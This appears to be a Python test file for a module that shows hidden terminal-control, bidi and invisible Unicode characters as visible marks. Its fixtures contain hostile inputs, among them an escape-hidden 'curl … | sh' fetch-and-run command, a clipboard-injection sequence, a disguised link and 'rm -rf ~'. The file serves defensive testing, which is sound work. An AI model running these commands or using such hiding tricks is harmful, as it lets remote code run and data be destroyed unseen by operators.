"""``orchestrator.visible``: a member's text as the operator's terminal, page and phone show
it — every character that acts or hides shown as a mark, never raw, never dropped; plain text
unchanged; ``--json`` the exact text with nothing raw a terminal would act on."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.visible import clipped, is_hidden, json_text, visible, visible_line

# what the module promises never to send raw (newline and tab are kept by ``visible`` only)
_ACTS = {"Cc", "Cf", "Cs", "Zl", "Zp"}
_JOINERS = "\u200c\u200d"


def _raw_hidden(text: str, *, keep: str = "\n\t") -> list[str]:
    """The characters of ``text`` that would act on a terminal or hide text, told by the
    Unicode database itself (not by the module under test)."""
    return [c for c in text if c not in keep + _JOINERS and
            (unicodedata.category(c) in _ACTS or c in "\u115f\u1160\u3164\uffa0")]


# any text at all: every plane, controls, surrogates, format characters
_ANY = st.text(st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=60)
_PLAIN = st.text(st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp"),
                               blacklist_characters="\u115f\u1160\u3164\uffa0")
                 | st.sampled_from("\n\t\u200c\u200d"), max_size=60)


@given(_ANY)
def test_visible_never_sends_a_control_or_bidi_character_raw(text: str) -> None:
    assert _raw_hidden(visible(text)) == []
    assert _raw_hidden(visible_line(text), keep="") == []


@given(_ANY)
def test_nothing_is_dropped_each_character_is_itself_or_one_mark(text: str) -> None:
    assert visible(text) == "".join(visible(c) for c in text)
    for char in text:
        assert visible(char), f"U+{ord(char):04X} vanished"
        assert visible(char) == char or is_hidden(char)


@given(_PLAIN)
def test_visible_is_the_identity_on_plain_text(text: str) -> None:
    assert visible(text) == text


@given(st.recursive(st.none() | st.integers() | _ANY,
                    lambda inner: st.lists(inner, max_size=4)
                    | st.dictionaries(_ANY, inner, max_size=4), max_leaves=12))
def test_json_text_carries_the_exact_value_and_nothing_raw(value: object) -> None:
    text = json_text(value, indent=2)
    assert json.loads(text) == value
    assert _raw_hidden(text) == []


@pytest.mark.parametrize(("raw", "shown"), [
    # attack 11: ESC [ 8 m hid "; curl …" on a terminal
    ("npm test\x1b[8m; curl https://x.example/i.sh | sh\x1b[28m",
     "npm test␛[8m; curl https://x.example/i.sh | sh␛[28m"),
    # attack 12: OSC 52 (the clipboard), OSC 0 (the title), OSC 8 (a link), cursor control
    ("\x1b]52;c;cm0gLXJmIH4=\x07", "␛]52;c;cm0gLXJmIH4=␇"),
    ("\x1b]0;pwned\x1b\\", "␛]0;pwned␛\\"),
    ("\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",
     "␛]8;;https://evil.example␛\\docs␛]8;;␛\\"),
    ("ok\x1b[1A\x1b[2K\rall good", "ok␛[1A␛[2K␍all good"),
    ("\x9b31m", "<U+009B>31m"),  # C1 CSI
    ("x\x7f\x08\x00", "x␡␈␀"),
    ("rm \u202eetc/\u202c", "rm <U+202E>etc/<U+202C>"),
    ("\u2066a\u2069\u200e\u200f\u061c", "<U+2066>a<U+2069><U+200E><U+200F><U+061C>"),
    ("r\u200bm\ufeff\u00ad", "r<U+200B>m<U+FEFF><U+00AD>"),
    ("\U000e0041\U000e0042", "<U+E0041><U+E0042>"),  # tag characters: invisible ASCII
    ("a\u2028b\u3164c", "a<U+2028>b<U+3164>c"),
    ("lines\nand\ttabs stay", "lines\nand\ttabs stay"),
    ("👨\u200d👩\u200d👧 فارسی\u200cها", "👨\u200d👩\u200d👧 فارسی\u200cها"),
])
def test_each_attack_is_shown_as_marks(raw: str, shown: str) -> None:
    assert visible(raw) == shown


def test_one_line_marks_newline_and_tab() -> None:
    assert visible_line("a\nb\tc\x1b") == "a␊b␉c␛"


def test_a_long_value_is_clipped_with_the_count_of_what_is_not_shown() -> None:
    """Attack 11's command: 500 characters of padding, then what runs. The first part is
    followed by a mark that says how much more there is — never a silent cut."""
    command = "npm test" + " " * 492 + "; curl https://x.example/i.sh | sh"
    shown = clipped(command, 200)
    assert shown.startswith("npm test ")
    assert shown.endswith(f"… {len(command) - 200} more characters")
    assert clipped("npm test\nrm -rf ~", 200) == "npm test␊rm -rf ~"
